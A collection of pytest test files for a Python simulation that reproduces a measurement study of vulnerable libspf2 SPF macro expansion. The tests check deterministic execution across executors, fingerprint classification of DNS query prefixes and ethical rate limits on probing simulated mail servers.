        assert [ip.outcome for ip in first.ips] == [
            ip.outcome for ip in second.ips
        ]

    def test_check_mta(self, handle, first_domain):
        ip = handle.probe_domain(first_domain).ips[0].ip
        result = handle.check_mta(ip)
        assert result.kind == "check_mta"
        assert result.target == ip
        assert len(result.ips) == 1

    def test_unknown_domain_raises(self, handle):
        with pytest.raises(SimulationError, match="unknown domain"):
            handle.census_row("no-such-domain.invalid")


class TestCensusAndPatch:
    def test_census_row(self, handle, first_domain):
        row = handle.census_row(first_domain)
        assert row["domain"] == first_domain
        assert row["v"] == api.SCHEMA_VERSION
        assert isinstance(row["sets"], list)

    def test_patch_status_since(self, handle, first_domain):
        handle.ensure_initial()
        handle.advance_rounds(2)
        status = handle.patch_status_since(first_domain, since=0)
        assert status["domain"] == first_domain
        assert len(status["rounds"]) <= handle.status()["rounds_completed"]
        assert isinstance(status["patched"], bool)


class TestModuleEntryPoints:
    def test_api_run_returns_campaign_result(self):
        result = api.run(api.RunConfig(scale=SCALE, seed=SEED))
        assert result.initial is not None
        assert result.rounds

    def test_resume_through_facade(self, tmp_path):
        from repro.store import RunStore

        store = RunStore(str(tmp_path / "runs"))
        config = api.RunConfig(scale=SCALE, seed=SEED)
        reference = api.run(config)
        api.run(config, store=store)

        resumed = api.resume(str(store.root), config.content_hash())
        try:
            assert resumed.status()["initial_complete"]
            result = resumed.run(store=store)
        finally:
            resumed.close()
        assert len(result.rounds) == len(reference.rounds)
        assert result.snapshot_status == reference.snapshot_status

    def test_resume_unknown_hash_is_an_error(self, tmp_path):
        from repro.errors import StoreError
        from repro.store import RunStore

        store = RunStore(str(tmp_path / "runs"))
        with pytest.raises(StoreError):
            api.resume(store, "deadbeef" * 8)
