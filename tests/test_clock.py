"""Tests for the simulated clock."""

import datetime as dt

import pytest

from repro.clock import (
    CVE_IDS,
    FINAL_MEASUREMENT,
    INITIAL_MEASUREMENT,
    PRIVATE_NOTIFICATION,
    PUBLIC_DISCLOSURE,
    SimulatedClock,
    utc,
)
from repro.errors import SimulationError


class TestConstants:
    def test_paper_timeline_ordering(self):
        assert (
            INITIAL_MEASUREMENT
            < PRIVATE_NOTIFICATION
            < PUBLIC_DISCLOSURE
            < FINAL_MEASUREMENT
        )

    def test_paper_dates(self):
        assert INITIAL_MEASUREMENT == utc(2021, 10, 11)
        assert PRIVATE_NOTIFICATION == utc(2021, 11, 15)
        assert PUBLIC_DISCLOSURE == utc(2022, 1, 19)
        assert FINAL_MEASUREMENT == utc(2022, 2, 14)

    def test_cves(self):
        assert CVE_IDS == ("CVE-2021-33912", "CVE-2021-33913")

    def test_utc_builder_is_aware(self):
        assert utc(2021, 1, 1).tzinfo is not None


class TestAdvancement:
    def test_starts_at_initial_measurement(self):
        assert SimulatedClock().now == INITIAL_MEASUREMENT

    def test_advance(self):
        clock = SimulatedClock()
        clock.advance(dt.timedelta(days=2))
        assert clock.now == INITIAL_MEASUREMENT + dt.timedelta(days=2)

    def test_advance_seconds(self):
        clock = SimulatedClock()
        clock.advance_seconds(90)
        assert clock.now == INITIAL_MEASUREMENT + dt.timedelta(seconds=90)

    def test_advance_to(self):
        clock = SimulatedClock()
        clock.advance_to(PUBLIC_DISCLOSURE)
        assert clock.now == PUBLIC_DISCLOSURE

    def test_backwards_rejected(self):
        clock = SimulatedClock()
        clock.advance(dt.timedelta(days=1))
        with pytest.raises(SimulationError):
            clock.advance_to(INITIAL_MEASUREMENT)
        with pytest.raises(SimulationError):
            clock.advance(dt.timedelta(seconds=-1))

    def test_naive_start_rejected(self):
        with pytest.raises(SimulationError):
            SimulatedClock(start=dt.datetime(2021, 10, 11))


class TestScheduling:
    def test_callback_fires_when_reached(self):
        clock = SimulatedClock()
        fired = []
        clock.schedule(INITIAL_MEASUREMENT + dt.timedelta(days=3), fired.append)
        clock.advance(dt.timedelta(days=2))
        assert fired == []
        clock.advance(dt.timedelta(days=2))
        assert fired == [INITIAL_MEASUREMENT + dt.timedelta(days=3)]

    def test_callbacks_fire_in_chronological_order(self):
        clock = SimulatedClock()
        order = []
        clock.schedule(utc(2021, 11, 3), lambda _: order.append("later"))
        clock.schedule(utc(2021, 10, 20), lambda _: order.append("earlier"))
        clock.advance_to(utc(2021, 12, 1))
        assert order == ["earlier", "later"]

    def test_past_schedule_fires_immediately(self):
        clock = SimulatedClock()
        clock.advance(dt.timedelta(days=5))
        fired = []
        clock.schedule(INITIAL_MEASUREMENT, fired.append)
        assert fired == [INITIAL_MEASUREMENT]

    def test_callback_observes_its_own_instant(self):
        clock = SimulatedClock()
        seen = []
        target = utc(2021, 10, 20)
        clock.schedule(target, lambda when: seen.append((when, clock.now)))
        clock.advance_to(utc(2021, 11, 1))
        assert seen == [(target, target)]

    def test_pending_count(self):
        clock = SimulatedClock()
        clock.schedule(utc(2022, 1, 1), lambda _: None)
        clock.schedule(utc(2022, 2, 1), lambda _: None)
        assert clock.pending() == 2
        clock.advance_to(utc(2022, 1, 15))
        assert clock.pending() == 1

    def test_callback_fires_exactly_once(self):
        clock = SimulatedClock()
        fired = []
        clock.schedule(utc(2021, 10, 20), fired.append)
        clock.advance_to(utc(2021, 11, 1))
        clock.advance_to(utc(2021, 12, 1))
        assert len(fired) == 1
