"""Unit tests for the probe-execution engine.

Covers the retry/backoff policy against injected transient 421 failures,
the executor factory, the virtual-time slot arithmetic, and the
campaign-ordering guard (``run_snapshot`` before ``run_initial`` must
raise :class:`~repro.errors.CampaignError`).
"""

from __future__ import annotations

import datetime as _dt

import pytest

from repro.clock import SimulatedClock
from repro.core.detector import DetectionOutcome
from repro.core.ethics import EthicsControls
from repro.core.labels import LabelAllocator
from repro.dns import CachingResolver, Name, SpfTestResponder, StubResolver
from repro.errors import CampaignError, SimulationError
from repro.exec import (
    ClockRouter,
    ExecutionEnvironment,
    ProbeTask,
    RetryPolicy,
    SerialExecutor,
    ShardedExecutor,
    make_executor,
)
from repro.exec.engine import _slots_before
from repro.simulation import Simulation
from repro.smtp import Network, SmtpServer, SpfStack, SpfTiming
from repro.smtp.policies import FailureStage, ServerPolicy

BASE = "spf-test.dns-lab.org"
IP = "10.9.0.1"


def build_world(policy=None, *, use_router=False):
    """One vulnerable server behind a fresh clock/network/responder."""
    clock = SimulatedClock()
    router = ClockRouter(clock)
    tick = router if use_router else (lambda: clock.now)
    responder = SpfTestResponder(Name.from_text(BASE))
    resolver = CachingResolver(clock=tick)
    resolver.register(BASE, responder)
    network = Network(clock=tick)
    server = SmtpServer(
        IP,
        policy=policy,
        spf_stacks=[SpfStack.named("vulnerable-libspf2", SpfTiming.ON_MAIL_FROM)],
        resolver=StubResolver(resolver, identity=IP, clock=tick),
    )
    network.register(server)
    env = ExecutionEnvironment(
        clock=clock,
        network=network,
        responder=responder,
        labels=LabelAllocator(responder.base),
        ethics=EthicsControls(),
        router=router if use_router else None,
    )
    return env, server


class TestRetryPolicy:
    def test_delay_grows_exponentially(self):
        policy = RetryPolicy(max_retries=3, backoff_seconds=60.0, backoff_factor=2.0)
        assert [policy.delay(a) for a in range(3)] == [60.0, 120.0, 240.0]

    def test_default_is_no_retries(self):
        assert RetryPolicy().max_retries == 0

    def test_retry_recovers_from_transient_421(self):
        """A banner-421 server that heals mid-backoff is still classified."""
        env, server = build_world(ServerPolicy(failure_stage=FailureStage.BANNER))

        def heal(_at):
            server.policy.failure_stage = FailureStage.NONE

        env.clock.schedule(env.clock.now + _dt.timedelta(seconds=30), heal)
        executor = SerialExecutor(env, retry=RetryPolicy(max_retries=2, backoff_seconds=60.0))
        suite = env.labels.new_suite()

        (result,) = executor.run_stage("retry", [ProbeTask(ip=IP, suite=suite)])

        assert result.outcome == DetectionOutcome.VULNERABLE
        metrics = executor.metrics.stages[-1]
        assert metrics.retried == 1
        assert metrics.probes_attempted == 2

    def test_retry_gives_up_after_bound(self):
        """A server that never heals stays SMTP-Failed after max_retries."""
        env, _server = build_world(ServerPolicy(failure_stage=FailureStage.BANNER))
        executor = SerialExecutor(env, retry=RetryPolicy(max_retries=2, backoff_seconds=60.0))
        suite = env.labels.new_suite()

        (result,) = executor.run_stage("retry", [ProbeTask(ip=IP, suite=suite)])

        assert result.outcome == DetectionOutcome.SMTP_FAILED
        metrics = executor.metrics.stages[-1]
        assert metrics.retried == 2
        assert metrics.probes_attempted == 3

    def test_no_retry_without_policy(self):
        """The default policy takes the first transient failure as final."""
        env, _server = build_world(ServerPolicy(failure_stage=FailureStage.BANNER))
        executor = SerialExecutor(env)
        suite = env.labels.new_suite()

        (result,) = executor.run_stage("retry", [ProbeTask(ip=IP, suite=suite)])

        assert result.outcome == DetectionOutcome.SMTP_FAILED
        assert executor.metrics.stages[-1].retried == 0

    def test_virtual_backoff_leaves_shared_clock_alone(self):
        """In router mode, backoff burns task-local time, not shared time."""
        env, _server = build_world(
            ServerPolicy(failure_stage=FailureStage.BANNER), use_router=True
        )
        executor = SerialExecutor(env, retry=RetryPolicy(max_retries=2, backoff_seconds=60.0))
        suite = env.labels.new_suite()
        base = env.clock.now

        executor.run_stage("retry", [ProbeTask(ip=IP, suite=suite)])

        # The stage spans exactly one timeslot of shared time, regardless
        # of the minutes of backoff the task itself waited through.
        assert (env.clock.now - base).total_seconds() == env.seconds_per_probe


class TestExecutorFactory:
    def test_default_is_serial(self):
        env, _server = build_world()
        assert isinstance(make_executor(None, env), SerialExecutor)

    def test_workers_select_sharded_when_routed(self):
        env, _server = build_world(use_router=True)
        executor = make_executor(None, env, workers=4)
        assert isinstance(executor, ShardedExecutor)
        assert executor.workers == 4

    def test_workers_fall_back_to_serial_without_router(self):
        env, _server = build_world()
        assert isinstance(make_executor(None, env, workers=4), SerialExecutor)

    def test_sharded_requires_router(self):
        env, _server = build_world()
        with pytest.raises(SimulationError):
            ShardedExecutor(env, workers=2)

    def test_unknown_name_rejected(self):
        env, _server = build_world()
        with pytest.raises(SimulationError):
            make_executor("parallel", env)

    def test_instance_and_factory_pass_through(self):
        env, _server = build_world()
        instance = SerialExecutor(env)
        assert make_executor(instance, env) is instance
        built = make_executor(lambda e: SerialExecutor(e), env)
        assert isinstance(built, SerialExecutor)


class TestSlotArithmetic:
    def test_slots_before(self):
        base = SimulatedClock().now
        slot = _dt.timedelta(seconds=0.25)
        assert _slots_before(base, base, slot) == 0
        assert _slots_before(base + _dt.timedelta(seconds=0.1), base, slot) == 1
        assert _slots_before(base + _dt.timedelta(seconds=0.25), base, slot) == 1
        assert _slots_before(base + _dt.timedelta(seconds=0.26), base, slot) == 2
        assert _slots_before(base - _dt.timedelta(seconds=5), base, slot) == 0


class TestCampaignOrderingGuard:
    @pytest.fixture(scope="class")
    def unrun_campaign(self):
        from repro.api import RunConfig

        return Simulation.build(config=RunConfig(scale=0.003)).campaign

    def test_snapshot_before_initial_raises(self, unrun_campaign):
        with pytest.raises(CampaignError, match="run_initial"):
            unrun_campaign.run_snapshot(unrun_campaign.clock.now)

    def test_tracked_ips_before_initial_raises(self, unrun_campaign):
        with pytest.raises(CampaignError, match="run_initial"):
            unrun_campaign.tracked_ips()
