"""Serial and sharded execution must produce byte-identical campaigns.

The executors' contract (see :mod:`repro.exec.engine`) is that the
strategy only changes *wall time*, never results: task ``k`` of a stage
always runs at ``stage_base + k * seconds_per_probe`` of simulated time,
labels come from position-reserved blocks, and scheduled events
partition the work list identically.  This module runs the full
four-month campaign twice at scale 0.02 — once serial, once sharded
across 7 workers — and asserts the complete canonicalized
:class:`~repro.core.campaign.CampaignResult` artifacts compare equal
down to the byte.
"""

from __future__ import annotations

import pytest

from repro.api import RunConfig
from repro.simulation import Simulation

SCALE = 0.02
SEED = 20211011
WORKERS = 7


def _canon_transaction(transaction):
    return (
        transaction.kind.value,
        transaction.status.value,
        transaction.sender,
        transaction.recipient,
        transaction.server_ip,
        tuple(reply.code.value for reply in transaction.replies),
    )


def _canon_detection(result):
    return (
        result.ip,
        result.suite,
        result.outcome.value,
        tuple(sorted(b.value for b in result.behaviors)),
        tuple(result.test_ids),
        result.successful_method.value if result.successful_method else None,
        result.queries_observed,
        tuple(sorted((m.value, o.value) for m, o in result.method_outcomes.items())),
        tuple(_canon_transaction(t) for t in result.transactions),
    )


def canonicalize(result):
    """A strategy-independent, fully ordered view of a campaign result."""
    initial = result.initial
    out = [
        initial.date.isoformat(),
        tuple(sorted((d, tuple(ips)) for d, ips in initial.domain_ips.items())),
        tuple(
            sorted(
                (ip, _canon_detection(record.result))
                for ip, record in initial.ip_records.items()
            )
        ),
        tuple(sorted((d, s.value) for d, s in initial.domain_status.items())),
    ]
    for rnd in result.rounds:
        out.append(
            (
                rnd.date.isoformat(),
                tuple(sorted((ip, o.value) for ip, o in rnd.results.items())),
                tuple(
                    sorted(
                        (ip, m.value if m else None)
                        for ip, m in rnd.methods.items()
                    )
                ),
            )
        )
    out.append(
        tuple(sorted((d, s.value) for d, s in result.snapshot_status.items()))
    )
    out.append(result.snapshot_date.isoformat() if result.snapshot_date else None)
    return out


@pytest.fixture(scope="module")
def serial_result():
    return Simulation.build(
        config=RunConfig(scale=SCALE, seed=SEED, executor="serial")
    ).run()


@pytest.fixture(scope="module")
def sharded_result():
    return Simulation.build(
        config=RunConfig(
            scale=SCALE, seed=SEED, executor="sharded", workers=WORKERS
        )
    ).run()


def test_campaign_results_byte_identical(serial_result, sharded_result):
    serial_bytes = repr(canonicalize(serial_result)).encode()
    sharded_bytes = repr(canonicalize(sharded_result)).encode()
    assert serial_bytes == sharded_bytes


def test_probe_counts_identical(serial_result, sharded_result):
    assert len(serial_result.initial.ip_records) == len(
        sharded_result.initial.ip_records
    )
    assert [r.date for r in serial_result.rounds] == [
        r.date for r in sharded_result.rounds
    ]


def test_notification_funnel_identical(serial_result, sharded_result):
    serial_report = serial_result.notification_report
    sharded_report = sharded_result.notification_report
    assert (serial_report is None) == (sharded_report is None)
    if serial_report is not None:
        assert serial_report.sent == sharded_report.sent
        assert serial_report.bounced == sharded_report.bounced
