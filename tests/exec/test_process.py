"""The process-sharded executor must be invisible in every artifact.

:class:`~repro.exec.ProcessShardedExecutor` rebuilds shard-local world
replicas in worker processes and merges results, evidence, metrics, and
trace events back into the parent.  Its contract is the same as the
thread-sharded executor's, but stricter to verify: nothing unpicklable
crosses the process boundary, and the merged trace must be
*byte-identical* to a serial run of the same seed.  This module runs the
full campaign serial and process-sharded at a small scale and compares
every artifact, then fault-injects a worker death and asserts the shard
degrades to in-process execution without changing a single result.
"""

from __future__ import annotations

import pytest

from repro.api import RunConfig
from repro.errors import SimulationError
from repro.exec import ExecutionEnvironment, make_executor, shard_of
from repro.obs import Observation, observing
from repro.obs.diff import diff_events
from repro.simulation import Simulation

from .test_determinism import canonicalize

SCALE = 0.005
SEED = 20211011
WORKERS = 3

#: executor bookkeeping that legitimately differs between strategies
#: (batch counts and wall-clock throughput), exempt from metric equality.
WALL_DEPENDENT = {
    "exec.batches",
    "exec.stages",
    "exec.stage_wall_seconds",
    "exec.stage_probes_per_second",
}


def _run(executor: str, workers: int):
    obs = Observation(trace=True)
    sim = Simulation.build(
        config=RunConfig(
            scale=SCALE, seed=SEED, executor=executor, workers=workers
        ),
        observation=obs,
    )
    result = sim.run()
    return sim, result, obs


@pytest.fixture(scope="module")
def serial():
    return _run("serial", 1)


@pytest.fixture(scope="module")
def process():
    sim, result, obs = _run("process", WORKERS)
    yield sim, result, obs
    sim.campaign.executor.shutdown()


def _strip_wall(metrics_dict: dict) -> dict:
    return {
        kind: {
            name: value
            for name, value in named.items()
            if name not in WALL_DEPENDENT
        }
        for kind, named in metrics_dict.items()
    }


class TestDeterminism:
    def test_campaign_results_byte_identical(self, serial, process):
        _, serial_result, _ = serial
        _, process_result, _ = process
        assert repr(canonicalize(serial_result)).encode() == repr(
            canonicalize(process_result)
        ).encode()

    def test_traces_byte_identical(self, serial, process, tmp_path):
        _, _, serial_obs = serial
        _, _, process_obs = process
        left = tmp_path / "serial.jsonl"
        right = tmp_path / "process.jsonl"
        serial_obs.tracer.write_jsonl(str(left))
        process_obs.tracer.write_jsonl(str(right))
        assert left.read_bytes() == right.read_bytes()

    def test_trace_diff_reports_no_divergence(self, serial, process):
        _, _, serial_obs = serial
        _, _, process_obs = process
        divergence = diff_events(serial_obs.tracer, process_obs.tracer)
        assert divergence is None

    def test_metrics_identical_modulo_wall(self, serial, process):
        _, _, serial_obs = serial
        _, _, process_obs = process
        assert _strip_wall(serial_obs.metrics.to_dict()) == _strip_wall(
            process_obs.metrics.to_dict()
        )

    def test_resolver_metrics_merged(self, process):
        """The resolver counters (PR-4 satellite) survive the shard merge."""
        _, _, obs = process
        queries = obs.metrics.counter("dns.resolver.queries")
        hits = obs.metrics.counter("dns.resolver.cache_hits")
        assert queries.total > 0
        assert 0 < hits.total < queries.total

    def test_responder_query_logs_identical(self, serial, process):
        serial_sim, _, _ = serial
        process_sim, _, _ = process
        canon = lambda sim: [
            e.to_text() for e in sim.campaign.responder.log
        ]
        assert canon(serial_sim) == canon(process_sim)


class TestSharding:
    def test_shard_of_is_stable_and_total(self):
        ips = [f"203.0.113.{i}" for i in range(64)]
        for n in (1, 2, 3, 7):
            shards = [shard_of(ip, n) for ip in ips]
            assert all(0 <= s < n for s in shards)
            assert shards == [shard_of(ip, n) for ip in ips]  # stable
        assert len({shard_of(ip, 4) for ip in ips}) == 4  # all shards used

    def test_make_executor_requires_world(self):
        from repro.clock import SimulatedClock
        from repro.core.ethics import EthicsControls
        from repro.core.labels import LabelAllocator
        from repro.dns.name import Name
        from repro.dns.server import SpfTestResponder
        from repro.smtp.transport import Network

        responder = SpfTestResponder(Name.from_text("spf-test.dns-lab.org"))
        env = ExecutionEnvironment(
            clock=SimulatedClock(),
            network=Network(),
            responder=responder,
            labels=LabelAllocator(responder.base),
            ethics=EthicsControls(),
            client_ip="198.51.100.7",
        )
        with pytest.raises(SimulationError, match="RunConfig"):
            make_executor("process", env, workers=2)


class TestDegradation:
    def test_killed_shard_falls_back_in_process(self, serial):
        """A worker death mid-campaign must not change any result."""
        serial_sim, _, _ = serial
        serial_initial = serial_sim.result.initial

        obs = Observation()
        sim = Simulation.build(
            config=RunConfig(
                scale=SCALE, seed=SEED, executor="process", workers=WORKERS
            ),
            observation=obs,
        )
        executor = sim.campaign.executor
        try:
            with observing(obs):
                initial = sim.campaign.run_initial()
                assert executor.kill_shard(1)
                first_date = sim.campaign.round_dates()[0]
                tracked = sim.campaign.tracked_ips()
                degraded_round = sim.campaign.run_round(first_date, tracked)
        finally:
            executor.shutdown()

        # The campaign completed and the degraded shard's results match a
        # healthy serial run of the same timeline prefix.
        healthy = Simulation.build(
            config=RunConfig(scale=SCALE, seed=SEED, executor="serial")
        )
        healthy.campaign.run_initial()
        healthy_round = healthy.campaign.run_round(
            healthy.campaign.round_dates()[0], healthy.campaign.tracked_ips()
        )
        assert degraded_round.results == healthy_round.results
        assert degraded_round.methods == healthy_round.methods
        assert sorted(initial.ip_records) == sorted(serial_initial.ip_records)

        # The failure is visible, once, against the killed shard.
        failures = obs.metrics.counter("exec.shard_failures")
        assert failures.total == 1
        assert failures.by_key() == {"shard1": 1.0}

    def test_kill_shard_without_pool_returns_false(self):
        sim = Simulation.build(
            config=RunConfig(
                scale=SCALE, seed=SEED, executor="process", workers=WORKERS
            )
        )
        executor = sim.campaign.executor
        try:
            assert executor.kill_shard(0) is False  # no stage run yet
        finally:
            executor.shutdown()
