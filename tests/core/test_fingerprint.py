"""Tests for expansion-prefix classification (the detection core)."""

import ipaddress

import pytest
from hypothesis import given, strategies as st

from repro.core.fingerprint import (
    ExpansionBehavior,
    classify_prefix,
    classify_prefixes,
    expected_prefixes,
)
from repro.dns.name import Name
from repro.spf.implementations import behavior_by_name
from repro.spf.macro import MacroContext

BASE = Name.from_text("spf-test.dns-lab.org")
SUITE = "s1"
TEST_ID = "ab1"


def prefix(text):
    return Name.from_text(text)


class TestExpectedPrefixes:
    def test_section_4_2_example_shape(self):
        expected = expected_prefixes(TEST_ID, SUITE, BASE)
        assert expected[ExpansionBehavior.RFC_COMPLIANT] == ["ab1"]
        assert expected[ExpansionBehavior.VULNERABLE_LIBSPF2] == [
            "org", "org", "dns-lab", "spf-test", "s1", "ab1",
        ]
        assert expected[ExpansionBehavior.REVERSED_NOT_TRUNCATED] == [
            "org", "dns-lab", "spf-test", "s1", "ab1",
        ]
        assert expected[ExpansionBehavior.TRUNCATED_NOT_REVERSED] == ["org"]
        assert expected[ExpansionBehavior.NO_EXPANSION] == ["%{d1r}"]

    def test_expected_prefixes_all_distinct(self):
        expected = expected_prefixes(TEST_ID, SUITE, BASE)
        as_tuples = [tuple(v) for v in expected.values()]
        assert len(set(as_tuples)) == len(as_tuples)


class TestClassifyPrefix:
    @pytest.mark.parametrize(
        "text,behavior",
        [
            ("ab1", ExpansionBehavior.RFC_COMPLIANT),
            ("org.org.dns-lab.spf-test.s1.ab1", ExpansionBehavior.VULNERABLE_LIBSPF2),
            ("org.dns-lab.spf-test.s1.ab1", ExpansionBehavior.REVERSED_NOT_TRUNCATED),
            ("org", ExpansionBehavior.TRUNCATED_NOT_REVERSED),
            ("%{d1r}", ExpansionBehavior.NO_EXPANSION),
            ("unknown", ExpansionBehavior.OTHER_ERRONEOUS),
            ("com.example", ExpansionBehavior.OTHER_ERRONEOUS),
        ],
    )
    def test_classification(self, text, behavior):
        assert classify_prefix(prefix(text), TEST_ID, SUITE, BASE) == behavior

    def test_control_mechanism_ignored(self):
        assert classify_prefix(prefix("b"), TEST_ID, SUITE, BASE) is None

    def test_case_insensitive(self):
        assert (
            classify_prefix(prefix("AB1"), TEST_ID, SUITE, BASE)
            == ExpansionBehavior.RFC_COMPLIANT
        )

    def test_vulnerability_flags(self):
        assert ExpansionBehavior.VULNERABLE_LIBSPF2.is_vulnerable
        assert ExpansionBehavior.VULNERABLE_LIBSPF2.is_erroneous
        assert not ExpansionBehavior.RFC_COMPLIANT.is_erroneous
        assert ExpansionBehavior.NO_EXPANSION.is_erroneous
        assert not ExpansionBehavior.NO_EXPANSION.is_vulnerable


class TestClassifyPrefixes:
    def test_multiple_patterns_collected(self):
        behaviors = classify_prefixes(
            [prefix("ab1"), prefix("org.org.dns-lab.spf-test.s1.ab1"), prefix("b")],
            TEST_ID, SUITE, BASE,
        )
        assert behaviors == {
            ExpansionBehavior.RFC_COMPLIANT,
            ExpansionBehavior.VULNERABLE_LIBSPF2,
        }

    def test_duplicates_collapse(self):
        behaviors = classify_prefixes(
            [prefix("ab1")] * 5, TEST_ID, SUITE, BASE
        )
        assert behaviors == {ExpansionBehavior.RFC_COMPLIANT}

    def test_only_control_queries_is_empty(self):
        assert classify_prefixes([prefix("b")], TEST_ID, SUITE, BASE) == set()


class TestEndToEndAgainstImplementations:
    """The classifier must recover each implementation's identity from the
    actual expansion that implementation produces."""

    MAPPING = {
        "rfc-compliant": ExpansionBehavior.RFC_COMPLIANT,
        "patched-libspf2": ExpansionBehavior.RFC_COMPLIANT,
        "vulnerable-libspf2": ExpansionBehavior.VULNERABLE_LIBSPF2,
        "no-expansion": ExpansionBehavior.NO_EXPANSION,
        "reversed-not-truncated": ExpansionBehavior.REVERSED_NOT_TRUNCATED,
        "truncated-not-reversed": ExpansionBehavior.TRUNCATED_NOT_REVERSED,
        "static-expansion": ExpansionBehavior.OTHER_ERRONEOUS,
    }

    @pytest.mark.parametrize("impl_name,expected", sorted(MAPPING.items()))
    def test_implementation_recovered(self, impl_name, expected):
        domain = f"{TEST_ID}.{SUITE}.{BASE}"
        ctx = MacroContext(
            sender=f"noreply@{domain}",
            domain=domain,
            client_ip=ipaddress.IPv4Address("198.51.100.7"),
        )
        behavior = behavior_by_name(impl_name)
        expansion = behavior.expand_domain_spec("%{d1r}", ctx).output
        observed = classify_prefix(
            Name.from_text(expansion), TEST_ID, SUITE, BASE
        )
        assert observed == expected


id_st = st.text(alphabet="abcdefghij0123456789", min_size=4, max_size=5)


class TestProperties:
    @given(id_st)
    def test_expected_prefixes_classify_to_themselves(self, test_id):
        expected = expected_prefixes(test_id, SUITE, BASE)
        for behavior, labels in expected.items():
            observed = classify_prefix(Name(labels), test_id, SUITE, BASE)
            assert observed == behavior

    @given(id_st, st.lists(st.sampled_from("abcxyz"), min_size=1, max_size=4))
    def test_random_garbage_is_other_erroneous_or_known(self, test_id, labels):
        observed = classify_prefix(Name(labels), test_id, SUITE, BASE)
        assert observed is None or isinstance(observed, ExpansionBehavior)
