"""Tests for the measurement's ethical limits."""

import datetime as dt

import pytest

from repro.core.ethics import EthicsControls, EthicsViolation, dedupe_ips

T0 = dt.datetime(2021, 10, 11, tzinfo=dt.timezone.utc)


class TestConcurrency:
    def test_cap_enforced(self):
        ethics = EthicsControls(max_concurrent_connections=2)
        ethics.connection_opened("10.0.0.1", T0)
        ethics.connection_opened("10.0.0.2", T0)
        with pytest.raises(EthicsViolation):
            ethics.connection_opened("10.0.0.3", T0)

    def test_paper_cap_is_250(self):
        assert EthicsControls().max_concurrent_connections == 250

    def test_closing_frees_slot(self):
        ethics = EthicsControls(max_concurrent_connections=1)
        ethics.connection_opened("10.0.0.1", T0)
        ethics.connection_closed()
        ethics.connection_opened("10.0.0.2", T0)

    def test_peak_concurrency_tracked(self):
        ethics = EthicsControls()
        ethics.connection_opened("10.0.0.1", T0)
        ethics.connection_opened("10.0.0.2", T0)
        ethics.connection_closed()
        assert ethics.peak_concurrency == 2

    def test_unbalanced_close_rejected(self):
        with pytest.raises(EthicsViolation):
            EthicsControls().connection_closed()


class TestReconnectWaits:
    def test_90_second_minimum(self):
        ethics = EthicsControls()
        ethics.connection_opened("10.0.0.1", T0)
        ethics.connection_closed()
        with pytest.raises(EthicsViolation):
            ethics.connection_opened("10.0.0.1", T0 + dt.timedelta(seconds=30))

    def test_reconnect_after_wait_allowed(self):
        ethics = EthicsControls()
        ethics.connection_opened("10.0.0.1", T0)
        ethics.connection_closed()
        ethics.connection_opened("10.0.0.1", T0 + dt.timedelta(seconds=90))

    def test_different_ips_need_no_wait(self):
        ethics = EthicsControls()
        ethics.connection_opened("10.0.0.1", T0)
        ethics.connection_opened("10.0.0.2", T0)

    def test_earliest_recontact(self):
        ethics = EthicsControls()
        assert ethics.earliest_recontact("10.0.0.1") is None
        ethics.connection_opened("10.0.0.1", T0)
        assert ethics.earliest_recontact("10.0.0.1") == T0 + dt.timedelta(seconds=90)

    def test_greylist_wait_is_eight_minutes(self):
        ethics = EthicsControls()
        ethics.connection_opened("10.0.0.1", T0)
        assert ethics.earliest_recontact(
            "10.0.0.1", greylisted=True
        ) == T0 + dt.timedelta(minutes=8)

    def test_reset_round_keeps_waits(self):
        ethics = EthicsControls()
        ethics.connection_opened("10.0.0.1", T0)
        ethics.reset_round()
        with pytest.raises(EthicsViolation):
            ethics.connection_opened("10.0.0.1", T0 + dt.timedelta(seconds=10))


class TestDedupe:
    def test_shared_ip_tested_once(self):
        by_ip = dedupe_ips(
            {"a.com": ["10.0.0.1"], "b.com": ["10.0.0.1"], "c.com": ["10.0.0.2"]}
        )
        assert sorted(by_ip) == ["10.0.0.1", "10.0.0.2"]
        assert sorted(by_ip["10.0.0.1"]) == ["a.com", "b.com"]
